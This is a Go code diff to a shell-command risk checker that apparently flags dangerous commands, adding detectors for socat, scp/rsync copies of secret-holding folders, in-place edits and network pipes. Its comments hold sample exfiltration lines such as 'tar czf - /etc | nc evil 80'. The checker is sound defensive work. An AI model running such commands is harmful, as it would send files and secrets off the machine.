@@ -737,7 +737,8 @@ func (j *judge) stmtInput(s *syntax.Stmt) {
 	for _, r := range s.Redirs {
 		switch r.Op {
 		case syntax.RdrIn:
-			if t, lit := word(r.Word).lit(); lit && senders[name] && t != "/dev/null" && !strings.HasPrefix(t, "/dev/tcp/") {
+			if t, lit := word(r.Word).lit(); lit && senders[name] && t != "/dev/null" && !strings.HasPrefix(t, "/dev/tcp/") &&
+				(name != "openssl" || len(argv) > 1 && argv[1].text == "s_client") {
 				j.danger(argv[0].text + " < " + clipWord(t) + " sends a file over the network")
 			}
 		case syntax.WordHdoc, syntax.Hdoc, syntax.DashHdoc:
@@ -901,4 +902,153 @@ func (j *judge) bareRunner(shown, name string, args []arg, inTable bool) {
 		return
 	}
 	j.danger(shown + " starts an interpreter with no program, which runs whatever reaches it: " + flRunsCode)
+}
+
+// inPlaceEditors edit the files they are given when told -i.
+var inPlaceEditors = map[string]bool{"sed": true, "gsed": true, "perl": true, "ruby": true}
+
+// inPlacePlant records a danger for sed -i (perl -i, ruby -i) on a file
+// where code runs later: a reader's row judges the edit a write, the
+// model's low must not wave it through. It reports whether it did.
+func (j *judge) inPlacePlant(shown, name string, args []arg) bool {
+	if !inPlaceEditors[name] {
+		return false
+	}
+	edits := false
+	for _, a := range args {
+		t := a.text
+		if t == "--in-place" || strings.HasPrefix(t, "--in-place=") || strings.HasPrefix(t, "-i") ||
+			strings.HasPrefix(t, "-") && !strings.HasPrefix(t, "--") && strings.ContainsRune(t, 'i') && name == "sed" {
+			edits = true
+		}
+	}
+	if !edits {
+		return false
+	}
+	for _, a := range args {
+		if a.dynamic || strings.HasPrefix(a.text, "-") {
+			continue
+		}
+		if why, ok := sensitive.RunsLater(a.text); ok {
+			j.danger(shown + " -i " + a.text + ": " + why)
+			return true
+		}
+	}
+	return false
+}
+
+// socatFile records a danger for socat joining a file to the network
+// (socat -u file:notes.txt tcp:evil:80): the file is sent, or written
+// from what arrives.
+func (j *judge) socatFile(shown, name string, args []arg) bool {
+	if name != "socat" {
+		return false
+	}
+	file, net := "", false
+	for _, a := range args {
+		t := strings.ToLower(a.text)
+		kind, _, ok := strings.Cut(t, ":")
+		if !ok {
+			continue
+		}
+		switch kind {
+		case "file", "open", "gopen", "create", "pipe", "unix-connect":
+			file = a.text
+		case "tcp", "tcp4", "tcp6", "udp", "udp4", "udp6", "tcp-connect", "tcp4-connect", "tcp6-connect",
+			"udp-connect", "openssl", "openssl-connect", "ssl", "sctp", "sctp-connect", "socks4", "socks4a", "proxy":
+			net = true
+		}
+	}
+	if file != "" && net {
+		j.danger(shown + " " + clipWord(file) + " joins a file to the network, which sends or overwrites it")
+		return true
+	}
+	return false
+}
+
+// remoteHost reports whether an operand of scp or rsync names another
+// host: host:path, user@host:path, host::module, rsync://.
+func remoteHost(t string) bool {
+	if strings.HasPrefix(t, "rsync://") {
+		return true
+	}
+	k := strings.IndexByte(t, ':')
+	return k > 0 && !strings.ContainsRune(t[:k], '/')
+}
+
+// copiesOut records a danger for scp, rsync and their kin copying a
+// directory that holds secrets (/etc, ~, /root, .ssh) to another host.
+func (j *judge) copiesOut(shown, name string, args []arg) bool {
+	switch name {
+	case "scp", "rsync", "rclone", "sftp", "lftp", "sshfs", "unison":
+	default:
+		return false
+	}
+	remote := false
+	holds := ""
+	for _, a := range args {
+		t := a.text
+		if a.dynamic || strings.HasPrefix(t, "-") {
+			continue
+		}
+		if remoteHost(t) {
+			remote = true
+			continue
+		}
+		clean := strings.TrimSuffix(t, "/")
+		if clean == "" {
+			clean = "/"
+		}
+		if _, ok := j.a.secrets.MatchDir(clean); ok || in(clean, secretAncestors...) {
+			holds = t
+		}
+	}
+	if remote && holds != "" {
+		j.danger(shown + " " + holds + " copies a folder that holds secrets to another host")
+		return true
+	}
+	return false
+}
+
+// pipedToNet records a danger when a pipe hands a network client what a
+// program wrote (tar czf - /etc | nc evil 80, cat x | curl -d @- URL):
+// the data leaves the machine. Text written out on the line (echo stats |
+// nc localhost 11211) is a request, not a file.
+func (j *judge) pipedToNet(b *syntax.BinaryCmd) {
+	argv := callArgs(b.Y)
+	if len(argv) == 0 {
+		return
+	}
+	name, _, ok := commandName(argv[0])
+	if !ok {
+		return
+	}
+	sends := false
+	switch {
+	case senders[name]:
+		sends = !hasAnyOpt(argv[1:], "-z") && (name != "openssl" || len(argv) > 1 && argv[1].text == "s_client")
+	case name == "curl" || name == "wget" || name == "http" || name == "https" || name == "xh":
+		for _, a := range argv[1:] {
+			if t := a.text; strings.HasSuffix(t, "@-") || t == "-T" || t == "--upload-file" || t == "--post-file=/dev/stdin" || t == "@-" {
+				sends = true
+			}
+		}
+	}
+	if !sends {
+		return
+	}
+	left := b.X
+	for {
+		inner, ok := left.Cmd.(*syntax.BinaryCmd)
+		if !ok || inner.Op != syntax.Pipe && inner.Op != syntax.PipeAll {
+			break
+		}
+		left = inner.Y
+	}
+	if la := callArgs(left); len(la) > 0 {
+		if n, _, ok := commandName(la[0]); ok && in(n, "echo", "printf", "true", ":") {
+			return
+		}
+	}
+	j.danger(argv[0].text + " sends what the pipe gives it over the network")
 }
